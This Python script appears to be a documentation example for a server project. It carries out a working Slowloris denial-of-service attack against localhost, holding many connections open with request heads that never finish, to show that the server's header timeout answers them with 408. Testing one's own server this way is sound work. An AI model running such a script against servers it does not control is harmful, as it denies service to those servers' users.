#!/usr/bin/env python3
"""Slowloris: hold a server's connections by never finishing a request head.

Opens CLIENTS connections to HOST:PORT (default 127.0.0.1:8001, 200 clients), sends each the
start of a request, then one more header byte per client every few seconds, for ever. Every
second it prints how many connections are still open and how many the server has answered.
A server without a header timeout keeps every one of them; stage 21 answers each with 408 and
closes it. Stop it with Ctrl-C.

    python3 docs/examples/slowloris.py [PORT] [CLIENTS]
"""

import socket
import sys
import time

HOST = "127.0.0.1"
PORT = int(sys.argv[1]) if len(sys.argv) > 1 else 8001
CLIENTS = int(sys.argv[2]) if len(sys.argv) > 2 else 200

start = time.monotonic()
open_ = []
for i in range(CLIENTS):
    try:
        s = socket.create_connection((HOST, PORT), timeout=5)
    except OSError as e:
        print(f"connection {i} failed: {e}")
        break
    s.setblocking(False)
    s.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
    open_.append(s)
print(f"{len(open_)} connections open, each with an unfinished request head")

answered = 0
first_answer = None
try:
    while open_:
        time.sleep(1)
        still = []
        for s in open_:
            try:
                data = s.recv(4096)
            except BlockingIOError:
                data = None
            except OSError:
                data = b""
            if data is None:
                try:
                    s.send(b"a")  # one more byte of a header that never ends
                    still.append(s)
                except OSError:
                    s.close()
            else:
                if data:
                    answered += 1
                    first_answer = first_answer or data.split(b"\r\n")[0].decode()
                s.close()
        open_ = still
        line = f"{time.monotonic() - start:5.1f} s: {len(open_)} still open, {answered} answered"
        if first_answer:
            line += f" (with {first_answer!r})"
        print(line, flush=True)
    print("the server closed every connection")
except KeyboardInterrupt:
    print(f"\nstopped with {len(open_)} connections still open")
